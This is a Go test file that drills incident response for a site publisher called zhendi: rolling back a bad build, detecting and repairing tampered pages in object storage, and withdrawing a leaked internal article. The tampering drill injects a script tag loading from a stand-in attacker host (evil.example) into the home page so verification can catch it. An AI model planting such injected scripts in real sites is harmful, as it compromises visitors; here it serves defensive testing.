package main

import (
	"compress/gzip"
	"context"
	"crypto/rand"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/minio/minio-go/v7"
)

// drill plays incidents on the sample portal, signed, in a bucket, with the commands that end them.
type drill struct {
	*ci
	t     *testing.T
	began time.Time
	print bool // make drill
}

// TestDrill: a bad build is published; a page is tampered with; an internal article leaks. make drill prints what is done, with times.
func TestDrill(t *testing.T) {
	t.Parallel()
	tool(t, "jq")
	d := &drill{t: t, print: os.Getenv("ZHENDI_DRILL") != "", ci: &ci{t: t, dir: t.TempDir(), store: newStore(t, "dangjian")}}
	d.edit = filepath.Join(d.dir, "site")
	d.sh(d.dir, nil, "mkdir site && zhendi key sign.pem >public.txt")
	for _, name := range []string{"content", "themes", "site.yaml", ".gitignore"} {
		d.sh(d.dir, nil, "[ ! -e "+abs(t, name)+" ] || cp -r "+abs(t, name)+" site/")
	}
	key, _ := os.ReadFile(filepath.Join(d.dir, "public.txt"))
	line, _, _ := strings.Cut(string(key), "\n")
	d.write("site.yaml", strings.Replace(d.file("site.yaml"), "  www: {dir: .zhendi/www}",
		fmt.Sprintf("  www: {s3: {endpoint: 'http://%s', bucket: dangjian}, %s}", d.store.address, line), 1))
	d.sh(d.edit, nil, "git init -q -b main && git add -A && git commit -q -m 网站 && zhendi build")
	d.do("zhendi publish")
	d.badBuild()
	d.tampering()
	d.leak()
}

func abs(t *testing.T, name string) string {
	t.Helper()
	p, err := filepath.Abs("../../" + name)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func (d *drill) say(format string, args ...any) {
	if d.print {
		fmt.Printf(format+"\n", args...)
	}
}

// incident begins one.
func (d *drill) incident(title string) {
	d.say("\n## %s\n", title)
}

// found starts the clock.
func (d *drill) found(what string) {
	d.say("# %s", what)
	d.began = time.Now()
}

// ended stops it.
func (d *drill) ended(what string) {
	d.say("# %s：%.1f 秒", what, time.Since(d.began).Seconds())
}

func (d *drill) environment() []string {
	return append(d.store.env(), "ZHENDI_SIGN_KEY_FILE="+filepath.Join(d.dir, "sign.pem"), "TMPDIR="+os.TempDir())
}

// do runs a command of an operator's, which must end well, and shows it.
func (d *drill) do(command string) string {
	d.t.Helper()
	out, err := d.fails(command)
	if err != nil {
		d.t.Fatalf("%s: %v\n%s", command, err, out)
	}
	return out
}

func (d *drill) fails(command string) (string, error) {
	d.t.Helper()
	began := time.Now()
	out, err := d.try(d.edit, d.environment(), "bash", "-e", "-c", command)
	d.say("$ %s    # %.1f 秒", command, time.Since(began).Seconds())
	lines := strings.Split(strings.TrimSpace(progressLine.ReplaceAllString(out, "")), "\n")
	if len(lines) > 8 {
		lines = append(append(lines[:4:4], fmt.Sprintf("…… 略去 %d 行", len(lines)-6)), lines[len(lines)-2:]...)
	}
	for _, l := range lines {
		if l != "" {
			d.say("%s", strings.ReplaceAll(l, d.dir+"/", ""))
		}
	}
	return out, err
}

// objects returns the site as it is live, without its manifest, and all that lies below the private prefix, unpacked.
func (d *drill) objects() (site, private map[string]string) {
	d.t.Helper()
	site, private = map[string]string{}, map[string]string{}
	root := filepath.Join(d.store.root, "dangjian")
	err := filepath.WalkDir(root, func(p string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() {
			return err
		}
		b, err := os.ReadFile(p)
		rel, _ := filepath.Rel(root, p)
		if r, err := gzip.NewReader(strings.NewReader(string(b))); err == nil {
			b, _ = io.ReadAll(r)
		}
		if strings.HasPrefix(rel, ".zhendi/") {
			private[rel] = string(b)
		} else if rel != "_site/manifest.txt" {
			site[rel] = string(b)
		}
		return err
	})
	if err != nil {
		d.t.Fatal(err)
	}
	return site, private
}

// same compares two states of the site.
func (d *drill) same(when string, was, is map[string]string) {
	d.t.Helper()
	for p, text := range was {
		if is[p] != text {
			d.t.Errorf("%s: %s is not as it was", when, p)
		}
	}
	for p := range is {
		if _, ok := was[p]; !ok && !strings.HasPrefix(p, "_assets/") { // old assets stay for a while
			d.t.Errorf("%s: %s was not there", when, p)
		}
	}
}

// badBuild: a replacement in all files has gone wrong, and is live.
func (d *drill) badBuild() {
	d.incident("发布了有错误的版本")
	good, _ := d.objects()
	d.sh(d.edit, nil, "grep -rl 云岫市 content/tzgg content/yw content/zzjs --include=*.md | xargs sed -i 's/云岫市/云袖市/g' && git commit -qam 统一地名")
	d.do("zhendi build && zhendi publish")
	bad, _ := d.objects()
	wrong := 0
	for _, text := range bad {
		if strings.Contains(text, "云袖市") {
			wrong++
		}
	}
	if wrong < 20 {
		d.t.Fatalf("the mistake is on %d pages only", wrong)
	}
	d.found(fmt.Sprintf("发现 %d 个文件写错了地名", wrong))
	d.do("zhendi rollback --list")
	d.do("zhendi rollback")
	d.ended("线上已恢复")
	back, _ := d.objects()
	d.same("after the rollback", good, back)
	d.do("zhendi verify --full")
	if out, err := d.fails("zhendi publish"); err == nil {
		d.t.Errorf("the bad build was published once more:\n%s", out)
	}
	d.do("git revert --no-edit HEAD && zhendi build && zhendi publish")
	d.ended("改正的稿件已上线")
	now, _ := d.objects()
	d.same("after the revert", good, now)
}

// tampering: somebody has the key of the store.
func (d *drill) tampering() {
	d.incident("网页被篡改")
	good, _ := d.objects()
	put := func(key, text string) {
		if _, err := d.store.core.PutObject(context.Background(), "dangjian", key, strings.NewReader(text), int64(len(text)), "", "", minio.PutObjectOptions{}); err != nil {
			d.t.Fatal(err)
		}
	}
	put("index.html", strings.Replace(good["index.html"], "</body>", "<script src=https://evil.example/a.js></script></body>", 1))
	put("tzgg/jiangli.html", "<h1>领奖</h1>")
	if err := d.store.core.RemoveObject(context.Background(), "dangjian", "dwgk/index.html", minio.RemoveObjectOptions{}); err != nil {
		d.t.Fatal(err)
	}
	d.found("定时核对报警")
	out, err := d.fails("zhendi verify")
	for _, want := range []string{"被改\tindex.html", "多出\ttzgg/jiangli.html", "缺失\tdwgk/index.html"} {
		if err == nil || !strings.Contains(out, want) {
			d.t.Errorf("verify does not say %s: %v\n%s", want, err, out)
		}
	}
	d.say("# 先换掉存储服务的凭证，再修复")
	if out, _ := d.fails("zhendi verify --full --repair"); !strings.Contains(out, "修复 2 处，还有 1 处") {
		d.t.Error(out)
	}
	d.say("# 多出的 tzgg/jiangli.html 不是本站的，核实后在控制台删除")
	if err := d.store.core.RemoveObject(context.Background(), "dangjian", "tzgg/jiangli.html", minio.RemoveObjectOptions{}); err != nil {
		d.t.Fatal(err)
	}
	d.do("zhendi verify --full")
	d.ended("线上已恢复")
	now, _ := d.objects()
	d.same("after the repair", good, now)
}

// leak: an internal article was published.
func (d *drill) leak() {
	d.incident("内部稿件误发")
	const title, phrase = "内部工作安排不宜公开", "栖鹤厅三号柜的钥匙由值班员保管"
	file := "neibu-" + strings.ToLower(rand.Text()[:6]) // the manual shows what a drill printed: its name must be another
	text := "---\ntitle: " + title + "\nid: neibuanpai\ndate: 2026-11-20 08:00\nsource: 云岫市机关党建网\ntags: [主题党日]\n%s---\n\n" + phrase + "。\n"
	d.sh(d.edit, nil, "mkdir content/tzgg/"+file)
	d.write("content/tzgg/"+file+"/index.md", fmt.Sprintf(text, "attachments: [zhiban.csv]\n"))
	d.write("content/tzgg/"+file+"/zhiban.csv", "日期,说明\n2026-11-20,"+phrase+"\n")
	d.sh(d.edit, nil, "git add -A && git commit -qm 通知")
	d.do("zhendi build && zhendi publish")
	d.write("content/tzgg/lingyi.md", strings.NewReplacer(title, "另一件事", phrase, "照常", "neibuanpai", "lingyitong").Replace(fmt.Sprintf(text, "")))
	d.sh(d.edit, nil, "git add -A && git commit -qm 又一篇")
	d.do("zhendi build && zhendi publish")
	named := d.naming(title, phrase, file)
	if len(named) < 6 {
		d.t.Fatalf("the article is named by %v only", named)
	}
	d.found(fmt.Sprintf("发现内部稿件已公开，%d 个对象提到它", len(named)))
	d.say("# 在稿件的头部信息里加一行 audience: internal")
	d.write("content/tzgg/"+file+"/index.md", fmt.Sprintf(text, "attachments: [zhiban.csv]\naudience: internal\n"))
	d.do("git commit -qam 撤下内部稿件 && zhendi build && zhendi publish --receipt receipt.json")
	d.ended("线上已没有")
	purge := d.do("jq -r '.purge[][]' receipt.json")
	d.ended("CDN 要刷新的网址已列出")
	for _, want := range []string{"/tzgg/2026/" + file + ".html\n", "/zhiban.csv\n", "/hant/tzgg/2026/" + file + ".html\n", "/tzgg/\n"} {
		if !strings.Contains(purge+"\n", want) {
			d.t.Errorf("the purge list lacks %s:\n%s", want, purge)
		}
	}
	if named := d.naming(title, phrase, file); len(named) > 0 {
		d.t.Errorf("after it was taken back, it is named by %v", named)
	}
	d.say("# 再退回到误发时的版本，它也不会回来")
	d.do("zhendi rollback")
	if named := d.naming(title, phrase, file); len(named) > 0 {
		d.t.Errorf("after a rollback it is named by %v", named)
	}
	list := strings.Fields(d.sh(d.edit, d.environment(), "zhendi rollback --list --format json | jq -r '.[1:][].to'"))
	for _, to := range list {
		d.sh(d.edit, d.environment(), "zhendi rollback --to "+to)
		if named := d.naming(title, phrase, file); len(named) > 0 {
			d.t.Errorf("after a rollback to %s it is named by %v", to, named)
		}
	}
	d.say("# 依次退回到列表里的 %d 个版本，都不会", len(list))
	d.do("zhendi verify --full")
	d.say("# 全部对象（包括私有前缀里的副本）中，标题、正文与网址出现 0 次")
}

// naming lists the objects that have the title or text of an article in either script, or, in the site itself, its address.
func (d *drill) naming(title, phrase, file string) (out []string) {
	d.t.Helper()
	words := []string{title, phrase, strings.TrimSpace(d.sh(d.dir, nil, "echo '"+title+"' | zhendi convert --config s2tw")), strings.TrimSpace(d.sh(d.dir, nil, "echo '"+phrase+"' | zhendi convert --config s2tw"))}
	site, private := d.objects()
	for p, text := range site {
		if strings.Contains(p, file) || slices.ContainsFunc(append(words, file), func(w string) bool { return strings.Contains(text, w) }) {
			out = append(out, p)
		}
	}
	for p, text := range private {
		if slices.ContainsFunc(words, func(w string) bool { return strings.Contains(text, w) }) {
			out = append(out, p)
		}
	}
	slices.Sort(out)
	return out
}
